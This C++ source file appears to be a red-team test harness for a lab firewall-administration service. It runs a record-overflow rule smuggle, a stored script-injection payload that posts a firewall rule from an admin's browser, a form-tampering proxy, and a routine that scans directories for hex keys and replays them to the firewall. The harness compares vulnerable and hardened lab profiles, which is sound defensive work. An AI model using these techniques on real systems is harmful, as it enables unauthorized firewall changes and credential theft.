#include "netadmin/redteam.hpp"

#include <algorithm>
#include <cctype>
#include <fstream>
#include <iostream>
#include <json.hpp>
#include <random>
#include <sstream>

#include "netadmin/error.hpp"
#include "netadmin/form.hpp"
#include "netadmin/recordstore.hpp"
#include "netadmin/services.hpp"
#include "netadmin/tamper_proxy.hpp"

namespace netadmin::redteam {

namespace fs = std::filesystem;
using json = nlohmann::json;

std::string_view to_string(Attack a) {
  switch (a) {
    case Attack::record_overflow: return "record_overflow";
    case Attack::stored_injection: return "stored_injection";
    case Attack::form_tamper: return "form_tamper";
    case Attack::key_exfil: return "key_exfil";
  }
  return "record_overflow";
}

std::optional<Attack> parse_attack(std::string_view text) {
  if (text == "overflow" || text == "record_overflow") return Attack::record_overflow;
  if (text == "injection" || text == "stored_injection") return Attack::stored_injection;
  if (text == "tamper" || text == "form_tamper") return Attack::form_tamper;
  if (text == "keyexfil" || text == "key_exfil") return Attack::key_exfil;
  return std::nullopt;
}

// ---------------------------------------------------------------------------
// Reports

namespace {

json fact_json(const Fact& f) {
  json j = {{"fact", f.kind}};
  for (const auto& [k, v] : f.data) j[k] = v;
  return j;
}

json report_json(const AttackReport& r) {
  json evidence = json::array();
  for (const auto& f : r.evidence) evidence.push_back(fact_json(f));
  json j = {{"attack", to_string(r.attack)},
            {"profile", to_string(r.profile)},
            {"succeeded", r.succeeded},
            {"evidence", evidence}};
  if (r.rechecked) j["evidence_rechecked"] = *r.rechecked;
  return j;
}

Fact rejected_fact(const Error& e) {
  Fact f{"rejected", {{"error", std::string(to_string(e.kind()))}, {"message", e.what()}}};
  if (e.cause()) f.data["cause"] = std::string(to_string(*e.cause()));
  if (!e.reason().empty()) f.data["reason"] = e.reason();
  if (!e.field().empty()) f.data["field"] = e.field();
  return f;
}

}  // namespace

std::string AttackReport::to_json() const { return report_json(*this).dump(2); }

AttackReport AttackReport::from_json(std::string_view text) {
  auto j = json::parse(text, nullptr, false);
  if (!j.is_object()) throw Error(ErrorKind::BadRequest, "report is not a JSON object");
  AttackReport r;
  r.attack = parse_attack(j.value("attack", "")).value_or(Attack::record_overflow);
  r.profile = parse_profile_mode(j.value("profile", "")).value_or(ProfileMode::vulnerable);
  r.succeeded = j.value("succeeded", false);
  for (const auto& f : j.value("evidence", json::array())) {
    Fact fact;
    for (const auto& [k, v] : f.items()) {
      if (k == "fact") {
        fact.kind = v.get<std::string>();
      } else {
        fact.data[k] = v.is_string() ? v.get<std::string>() : v.dump();
      }
    }
    r.evidence.push_back(std::move(fact));
  }
  if (j.contains("evidence_rechecked")) r.rechecked = j["evidence_rechecked"].get<bool>();
  return r;
}

std::string reports_to_json(const std::vector<AttackReport>& reports) {
  json arr = json::array();
  for (const auto& r : reports) arr.push_back(report_json(r));
  return arr.dump(2);
}

Credentials credentials_for(std::string_view lab_user) {
  const auto& u = lab::user(lab_user);
  return Credentials{u.name, u.password};
}

// ---------------------------------------------------------------------------
// Clients

GatekeeperClient::GatekeeperClient(Endpoint endpoint, ProfileMode mode)
    : client_(endpoint.host, endpoint.port), mode_(mode) {}

void GatekeeperClient::login(const Credentials& creds) {
  auto res = client_.post("/login", form::encode({{"username", creds.username}, {"password", creds.password}}),
                          http::kFormType);
  if (!res.ok()) throw http::error_from_response(res.status, res.body);
  auto doc = json::parse(res.body);
  token_ = doc.at("token").get<std::string>();
  channel_key_.clear();
  if (doc.contains("channel_key")) {
    channel_key_ = hardening::from_hex(doc["channel_key"].get<std::string>()).value_or("");
  }
}

std::string GatekeeperClient::seal(const std::string& form) const {
  if (mode_ == ProfileMode::vulnerable) return form;
  return hardening::encode_envelope(hardening::sign_envelope(form, token_, channel_key_));
}

std::map<std::string, std::string> GatekeeperClient::headers(policy::SourceNetwork source) const {
  return {{"Authorization", "Bearer " + token_},
          {http::kSourceNetworkHeader, std::string(policy::to_string(source))}};
}

std::uint64_t GatekeeperClient::submit(const gatekeeper::RuleSubmission& sub, policy::SourceNetwork source) {
  const auto type = mode_ == ProfileMode::hardened ? http::kEnvelopeType : http::kFormType;
  auto res = client_.post("/rules", seal(sub.to_form()), type, headers(source));
  if (!res.ok()) throw http::error_from_response(res.status, res.body);
  return json::parse(res.body).at("id").get<std::uint64_t>();
}

std::string GatekeeperClient::rules_html() {
  auto res = client_.get("/rules", headers(policy::SourceNetwork::campus));
  if (!res.ok()) throw http::error_from_response(res.status, res.body);
  return res.body;
}

std::string GatekeeperClient::rules_txt() {
  auto res = client_.get("/rules.txt", headers(policy::SourceNetwork::campus));
  if (!res.ok()) throw http::error_from_response(res.status, res.body);
  return res.body;
}

std::string GatekeeperClient::toggle(std::uint64_t id, std::string_view status, policy::SourceNetwork source) {
  const auto type = mode_ == ProfileMode::hardened ? http::kEnvelopeType : http::kFormType;
  auto res = client_.post("/rules/" + std::to_string(id) + "/toggle",
                          seal(form::encode({{"status", std::string(status)}})), type, headers(source));
  if (!res.ok()) throw http::error_from_response(res.status, res.body);
  return json::parse(res.body).at("status").get<std::string>();
}

firewall::FirewallTable fetch_table(const Endpoint& firewall) {
  http::Client client(firewall.host, firewall.port);
  auto res = client.get("/table");
  if (!res.ok()) throw http::error_from_response(res.status, res.body);
  return services::table_from_json(res.body);
}

// ---------------------------------------------------------------------------
// Payloads and scanning

OverflowPayload build_overflow(const FirewallRule& carrier, const FirewallRule& embedded) {
  FirewallRule head = carrier;
  head.description.clear();
  std::string prefix = store::serialize_rule(head, store::SerializeMode::legacy);
  prefix.pop_back();  // terminator

  OverflowPayload p;
  p.prefix_length = prefix.size();
  if (p.prefix_length >= store::kLegacyWindow) {
    throw Error(ErrorKind::BadRequest, "carrier prefix alone fills the read window");
  }
  p.padding_length = store::kLegacyWindow - p.prefix_length;
  p.embedded = store::serialize_rule(embedded, store::SerializeMode::legacy);
  p.embedded.pop_back();
  p.description = std::string(p.padding_length, 'A') + p.embedded;
  return p;
}

std::vector<KeyToken> scan_for_keys(const fs::path& root, std::size_t length) {
  std::vector<KeyToken> found;
  auto scan_file = [&](const fs::path& path) {
    std::ifstream in(path, std::ios::binary);
    if (!in) return;
    std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    std::size_t i = 0;
    while (i < bytes.size()) {
      if (!std::isxdigit(static_cast<unsigned char>(bytes[i]))) {
        ++i;
        continue;
      }
      std::size_t j = i;
      while (j < bytes.size() && std::isxdigit(static_cast<unsigned char>(bytes[j]))) ++j;
      if (j - i == length) found.push_back(KeyToken{path, i, bytes.substr(i, length)});
      i = j;
    }
  };
  std::error_code ec;
  if (fs::is_regular_file(root, ec)) {
    scan_file(root);
    return found;
  }
  for (auto it = fs::recursive_directory_iterator(root, fs::directory_options::skip_permission_denied, ec);
       it != fs::recursive_directory_iterator(); it.increment(ec)) {
    if (ec) break;
    if (it->is_regular_file(ec)) scan_file(it->path());
  }
  return found;
}

// ---------------------------------------------------------------------------
// Attacks

namespace {

EpochSeconds lab_now(const lab::Topology& lab) {
  return lab.seed ? lab::kSeededEpoch : gatekeeper::system_clock()();
}

fs::path store_path(const lab::Topology& lab) { return lab.gatekeeper_dir / "rules.db"; }

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

bool table_has(const firewall::FirewallTable& table, std::string_view ip, int port,
               std::optional<std::uint64_t> rule_id = std::nullopt) {
  return std::any_of(table.entries.begin(), table.entries.end(), [&](const firewall::TableEntry& e) {
    return e.ip == ip && e.port == port && (!rule_id || e.rule_id == *rule_id);
  });
}

bool store_has(const lab::Topology& lab, std::string_view ip, std::string_view cls) {
  for (const auto& rec : store::parse_legacy(read_file(store_path(lab)))) {
    if (rec.usable() && rec.fields.size() > 2 && rec.fields[2] == ip && store::to_string(rec.classification) == cls) {
      return true;
    }
  }
  return false;
}

std::string fingerprint(std::string_view token) { return std::string(token.substr(0, 12)); }

}  // namespace

AttackReport attack_record_overflow(lab::Topology& lab, const Credentials& attacker) {
  AttackReport report;
  report.attack = Attack::record_overflow;
  report.profile = lab.mode;
  const auto now = lab_now(lab);
  const auto& me = lab::user(attacker.username);
  auto own = Ipv4Cidr::parse(me.owned.front());

  // Pre-flight: predict the record the server will write.
  store::StoreFile store(store_path(lab), store::SerializeMode::legacy);
  FirewallRule carrier;
  {
    auto lock = store.lock_shared();
    carrier.id = store.next_id_locked();
  }
  carrier.owner = attacker.username;
  carrier.ip = Ipv4Cidr(own->network() + 7, 32).to_string();
  carrier.port = 443;
  carrier.created = now;
  carrier.expires = now + kRuleLifetime;

  FirewallRule embedded;
  embedded.id = 4242;
  embedded.owner = "admin";
  embedded.ip = kVictimIp;
  embedded.port = 22;
  embedded.created = now;
  embedded.expires = now + kRuleLifetime;
  embedded.description = "maintenance";

  const auto payload = build_overflow(carrier, embedded);
  if (payload.prefix_length + payload.padding_length != store::kLegacyWindow) {
    throw Error(ErrorKind::BadRequest, "overflow padding arithmetic is off");
  }
  report.evidence.push_back({"payload",
                             {{"prefix_length", std::to_string(payload.prefix_length)},
                              {"padding_length", std::to_string(payload.padding_length)},
                              {"description_length", std::to_string(payload.description.size())}}});

  GatekeeperClient client(lab.gatekeeper, lab.mode);
  client.login(attacker);
  gatekeeper::RuleSubmission sub{carrier.ip, "443", "tcp", "allow", payload.description,
                                 std::to_string(carrier.expires)};
  try {
    auto id = client.submit(sub);
    report.evidence.push_back({"accepted", {{"rule_id", std::to_string(id)}}});
  } catch (const Error& e) {
    if (e.kind() == ErrorKind::LabUnreachable) throw;
    report.evidence.push_back(rejected_fact(e));
  }

  const bool in_store = store_has(lab, kVictimIp, "overflow_tail");
  if (in_store) report.evidence.push_back({"store_record", {{"ip", kVictimIp}, {"class", "overflow_tail"}}});
  if (!in_store) return report;

  // The smuggled record reaches the firewall when the service next loads
  // its store.
  lab::restart(lab, lab.mode == ProfileMode::hardened ? "front" : "gatekeeper");
  const auto table = fetch_table(lab.firewall);
  if (table_has(table, kVictimIp, 22, embedded.id)) {
    report.evidence.push_back({"firewall_entry",
                               {{"ip", kVictimIp}, {"port", "22"}, {"rule_id", std::to_string(embedded.id)}}});
    report.succeeded = true;
  }
  return report;
}

AttackReport attack_stored_injection(lab::Topology& lab, const Credentials& attacker, const Credentials& viewer) {
  AttackReport report;
  report.attack = Attack::stored_injection;
  report.profile = lab.mode;
  const std::string canary = "canary-" + std::to_string(lab.seed.value_or(0));
  const std::string payload = "<script>/*" + canary +
                              "*/fetch('/rules',{method:'POST',headers:{'Content-Type':"
                              "'application/x-www-form-urlencoded'},body:'ip=130.85.0.66&port=22'})</script>";
  const auto& me = lab::user(attacker.username);
  auto own = Ipv4Cidr::parse(me.owned.front());

  GatekeeperClient client(lab.gatekeeper, lab.mode);
  client.login(attacker);
  try {
    auto id = client.submit({Ipv4Cidr(own->network() + 9, 32).to_string(), "80", "tcp", "allow", payload, ""});
    report.evidence.push_back({"accepted", {{"rule_id", std::to_string(id)}}});
  } catch (const Error& e) {
    if (e.kind() == ErrorKind::LabUnreachable) throw;
    report.evidence.push_back(rejected_fact(e));
  }

  GatekeeperClient admin(lab.gatekeeper, lab.mode);
  admin.login(viewer);
  const std::string page = admin.rules_html();
  const std::string needle = "<script>/*" + canary;
  if (page.find(needle) != std::string::npos) {
    report.evidence.push_back({"page_contains", {{"viewer", viewer.username}, {"needle", needle}}});
    report.succeeded = true;
  } else {
    report.evidence.push_back({"page_clean", {{"viewer", viewer.username}, {"bytes", std::to_string(page.size())}}});
  }
  return report;
}

AttackReport attack_form_tamper(lab::Topology& lab, const Credentials& victim) {
  AttackReport report;
  report.attack = Attack::form_tamper;
  report.profile = lab.mode;
  const std::string target = "130.85.0.77";
  TamperProxy proxy("127.0.0.1", lab.gatekeeper, {{"ip", target}});
  proxy.start();

  const auto& u = lab::user(victim.username);
  auto own = Ipv4Cidr::parse(u.owned.front());
  GatekeeperClient client(proxy.endpoint(), lab.mode);
  client.login(victim);
  try {
    auto id = client.submit({Ipv4Cidr(own->network() + 20, 32).to_string(), "443", "tcp", "allow", "web", ""});
    report.evidence.push_back({"accepted", {{"rule_id", std::to_string(id)}}});
  } catch (const Error& e) {
    if (e.kind() == ErrorKind::LabUnreachable) throw;
    report.evidence.push_back(rejected_fact(e));
  }
  report.evidence.push_back({"proxy", {{"rewritten_requests", std::to_string(proxy.rewritten_count())}}});
  proxy.stop();

  if (table_has(fetch_table(lab.firewall), target, 443)) {
    report.evidence.push_back({"firewall_entry", {{"ip", target}, {"port", "443"}}});
    report.succeeded = true;
  }
  return report;
}

AttackReport attack_key_exfil(lab::Topology& lab) {
  AttackReport report;
  report.attack = Attack::key_exfil;
  report.profile = lab.mode;
  const auto tokens = scan_for_keys(lab.gatekeeper_dir);
  report.evidence.push_back(
      {"scan", {{"dir", lab.gatekeeper_dir.string()}, {"tokens", std::to_string(tokens.size())}}});

  const std::string target = "130.85.0.99";
  constexpr int kPort = 3389;
  auto replay = [&](const std::string& key_id, const std::string& secret, std::uint64_t rule_id) {
    firewall::ApplyRequest req;
    req.key_id = key_id;
    req.secret = secret;
    req.verb = firewall::Verb::create;
    req.rule_id = rule_id;
    req.ip = target;
    req.port = kPort;
    return gatekeeper::http_firewall_link(lab.firewall, lab.mode)->apply(req);
  };

  if (!tokens.empty()) {
    const auto& tok = tokens.front();
    report.evidence.push_back({"key_file", {{"path", tok.path.string()}, {"fingerprint", fingerprint(tok.token)}}});
    // The key id sits next to the key in the service config.
    std::string key_id = "netadmin-master";
    try {
      key_id = parse_config(read_file(lab.gatekeeper_config), lab.gatekeeper_dir).firewall_key_id;
    } catch (const Error&) {
    }
    try {
      const auto before = fetch_table(lab.firewall).generation;
      const auto gen = replay(key_id, *hardening::from_hex(tok.token), 31337);
      report.evidence.push_back(
          {"direct_apply", {{"generation_before", std::to_string(before)}, {"generation", std::to_string(gen)}}});
      report.evidence.push_back({"firewall_entry", {{"ip", target}, {"port", std::to_string(kPort)}, {"rule_id", "31337"}}});
      report.succeeded = gen > before;
    } catch (const Error& e) {
      if (e.kind() == ErrorKind::LabUnreachable) throw;
      report.evidence.push_back(rejected_fact(e));
    }
    return report;
  }

  // Nothing to steal from the front end. Assume the back end's scoped key
  // leaked as well and try it outside the research subnet.
  if (!lab.sealed_dir.empty()) {
    const auto scoped = scan_for_keys(lab.sealed_dir);
    if (!scoped.empty()) {
      try {
        replay(lab.firewall_key_id, *hardening::from_hex(scoped.front().token), 31338);
        report.evidence.push_back({"firewall_entry", {{"ip", target}, {"port", std::to_string(kPort)}}});
        report.succeeded = true;
      } catch (const Error& e) {
        if (e.kind() == ErrorKind::LabUnreachable) throw;
        auto f = rejected_fact(e);
        f.data["key"] = "scoped";
        report.evidence.push_back(f);
      }
    }
  }
  return report;
}

AttackReport run_attack(lab::Topology& lab, Attack attack) {
  switch (attack) {
    case Attack::record_overflow: return attack_record_overflow(lab, credentials_for("mallory"));
    case Attack::stored_injection:
      return attack_stored_injection(lab, credentials_for("mallory"), credentials_for("admin"));
    case Attack::form_tamper: return attack_form_tamper(lab, credentials_for("alice"));
    case Attack::key_exfil: return attack_key_exfil(lab);
  }
  throw Error(ErrorKind::BadRequest, "unknown attack");
}

bool recheck_evidence(const AttackReport& report, const lab::Topology& lab) {
  std::optional<firewall::FirewallTable> table;
  for (const auto& f : report.evidence) {
    auto get = [&](const char* k) {
      auto it = f.data.find(k);
      return it == f.data.end() ? std::string{} : it->second;
    };
    if (f.kind == "firewall_entry") {
      if (!table) table = fetch_table(lab.firewall);
      std::optional<std::uint64_t> id;
      if (!get("rule_id").empty()) id = std::stoull(get("rule_id"));
      if (!table_has(*table, get("ip"), std::stoi(get("port")), id)) return false;
    } else if (f.kind == "store_record") {
      if (!store_has(lab, get("ip"), get("class"))) return false;
    } else if (f.kind == "page_contains") {
      GatekeeperClient viewer(lab.gatekeeper, lab.mode);
      viewer.login(credentials_for(get("viewer")));
      if (viewer.rules_html().find(get("needle")) == std::string::npos) return false;
    } else if (f.kind == "key_file") {
      const auto tokens = scan_for_keys(get("path"));
      if (std::none_of(tokens.begin(), tokens.end(),
                       [&](const KeyToken& t) { return fingerprint(t.token) == get("fingerprint"); })) {
        return false;
      }
    }
  }
  return true;
}

std::vector<AttackReport> run_suite(const lab::LabOptions& options, const std::vector<Attack>& attacks) {
  auto topo = lab::up(options);
  std::vector<AttackReport> reports;
  try {
    for (auto a : attacks) {
      auto r = run_attack(topo, a);
      r.rechecked = recheck_evidence(r, topo);
      reports.push_back(std::move(r));
    }
  } catch (...) {
    lab::down(topo);
    throw;
  }
  lab::down(topo);
  return reports;
}

// ---------------------------------------------------------------------------
// Containment workload

WorkloadResult run_workload(lab::Topology& lab, std::uint64_t seed, std::size_t submissions, bool via_proxy) {
  std::mt19937_64 rng(seed);
  auto pick = [&](std::size_t n) { return static_cast<std::size_t>(rng() % n); };
  auto chance = [&](int percent) { return static_cast<int>(rng() % 100) < percent; };

  std::unique_ptr<TamperProxy> proxy;
  if (via_proxy) {
    proxy = std::make_unique<TamperProxy>("127.0.0.1", lab.gatekeeper, std::vector<RewriteRule>{{"ip", "130.85.0.77"}});
    proxy->start();
  }

  const auto& users = lab::roster();
  std::vector<std::unique_ptr<GatekeeperClient>> direct, tampered;
  for (const auto& u : users) {
    direct.push_back(std::make_unique<GatekeeperClient>(lab.gatekeeper, lab.mode));
    direct.back()->login({u.name, u.password});
    if (proxy) {
      tampered.push_back(std::make_unique<GatekeeperClient>(proxy->endpoint(), lab.mode));
      tampered.back()->login({u.name, u.password});
    }
  }

  const int ports[] = {22, 80, 443, 53, 8080, 3389, 25};
  const char* const foreign[] = {"130.85.0.0/16", "8.8.8.0/24", "192.168.1.0/24"};
  auto host_in = [&](std::string_view cidr) {
    auto c = *Ipv4Cidr::parse(cidr);
    const std::uint32_t span = c.prefix() >= 32 ? 1u : (1u << (32 - c.prefix()));
    return Ipv4Cidr(c.network() + 1 + static_cast<std::uint32_t>(rng() % std::max<std::uint32_t>(span - 2, 1)), 32)
        .to_string();
  };

  WorkloadResult out;
  for (std::size_t i = 0; i < submissions; ++i) {
    const std::size_t who = pick(users.size());
    const auto& u = users[who];
    std::string ip;
    const int roll = static_cast<int>(rng() % 100);
    if (roll < 60) {
      ip = host_in(u.owned[pick(u.owned.size())]);
    } else if (roll < 80) {
      const auto& other = users[pick(users.size())];
      ip = host_in(other.owned.front());
    } else {
      ip = host_in(foreign[pick(std::size(foreign))]);
    }
    gatekeeper::RuleSubmission sub;
    sub.ip = ip;
    sub.port = std::to_string(chance(85) ? ports[pick(4)] : ports[4 + pick(3)]);
    sub.protocol = chance(80) ? "tcp" : "udp";
    sub.action = chance(90) ? "allow" : "deny";
    const int d = static_cast<int>(rng() % 100);
    sub.description = d < 90 ? "workload " + std::to_string(i) : d < 95 ? "<b>bold</b>" : std::string(300, 'x');
    const int s = static_cast<int>(rng() % 100);
    const auto source = s < 85 ? policy::SourceNetwork::campus
                        : s < 95 ? policy::SourceNetwork::vpn
                                 : policy::SourceNetwork::research_subnet;

    auto& client = (proxy && i % 2 == 1) ? *tampered[who] : *direct[who];
    ++out.submitted;
    try {
      client.submit(sub, source);
      ++out.accepted;
    } catch (const Error& e) {
      if (e.kind() == ErrorKind::LabUnreachable) throw;
      std::string key(to_string(e.kind()));
      if (e.cause()) key += ":" + std::string(to_string(*e.cause()));
      if (!e.reason().empty()) key += ":" + e.reason();
      ++out.rejected[key];
    }
  }
  if (proxy) {
    out.tampered = proxy->rewritten_count();
    proxy->stop();
  }
  out.table = fetch_table(lab.firewall);
  for (const auto& e : out.table.entries) {
    auto ip = Ipv4Cidr::parse(e.ip);
    if (!ip || !lab.research_subnet.contains(*ip)) ++out.out_of_subnet;
  }
  return out;
}

}  // namespace netadmin::redteam
